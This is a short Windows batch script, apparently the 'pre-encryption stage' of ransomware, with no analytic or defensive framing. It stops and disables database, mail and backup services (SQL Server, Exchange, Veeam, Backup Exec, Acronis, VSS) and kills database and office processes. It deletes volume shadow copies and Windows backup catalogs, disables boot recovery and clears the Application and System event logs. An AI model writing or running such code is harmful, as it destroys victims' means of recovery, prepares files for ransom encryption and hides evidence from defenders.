@echo off
rem pre-encryption stage
net session >nul 2>&1 || exit /b

for %%s in (MSSQLSERVER SQLWriter SQLSERVERAGENT MSExchangeIS VeeamBackupSvc VeeamTransportSvc BackupExecAgentAccelerator "Acronis VSS Provider" vss wbengine) do (
    net stop %%s /y >nul 2>&1
    sc config %%s start= disabled >nul 2>&1
)
for %%p in (sqlservr.exe oracle.exe ocssd.exe dbsnmp.exe excel.exe winword.exe outlook.exe thunderbird.exe) do taskkill /f /im %%p >nul 2>&1

vssadmin.exe delete shadows /all /quiet
wmic.exe shadowcopy delete /nointeractive
vssadmin.exe resize shadowstorage /for=c: /on=c: /maxsize=401MB
wbadmin.exe delete catalog -quiet
wbadmin.exe delete systemstatebackup -keepversions:0
bcdedit.exe /set {default} recoveryenabled No
bcdedit.exe /set {default} bootstatuspolicy ignoreallfailures
reagentc.exe /disable
wevtutil.exe cl Application
wevtutil.exe cl System
echo done > "%PUBLIC%\.prep"
